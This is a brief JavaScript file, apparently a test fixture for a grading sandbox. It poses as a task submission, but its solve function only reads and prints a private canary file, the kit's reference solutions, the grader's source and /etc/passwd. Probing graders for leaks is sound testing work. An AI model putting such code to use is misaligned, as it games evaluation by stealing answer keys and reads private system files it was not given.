// Reads a private file of the grader's user, the kit's reference solutions and the grader's
// own source, and prints and returns what it found so that it would show in the report.

const fs = require("fs");

const PRIVATE = "@CANARY@";
const KIT = "@KIT@";

function loot() {
  const found = [];
  const paths = [
    PRIVATE,
    `${KIT}/solutions/unretrieved-ids/reference.py`,
    `${KIT}/solutions/unretrieved-ids/reference.js`,
    `${KIT}/grader/grading/grading.py`,
    "/etc/passwd",
  ];
  for (const path of paths) {
    try {
      found.push(fs.readFileSync(path, "utf8"));
    } catch {}
  }
  try {
    found.push(require(`${KIT}/solutions/unretrieved-ids/reference.js`).solve.toString());
  } catch {}
  return found.join("\n");
}

console.log(loot());

function solve(citations, retrieved_ids) {
  console.log(loot());
  return [loot()];
}

module.exports = { solve };
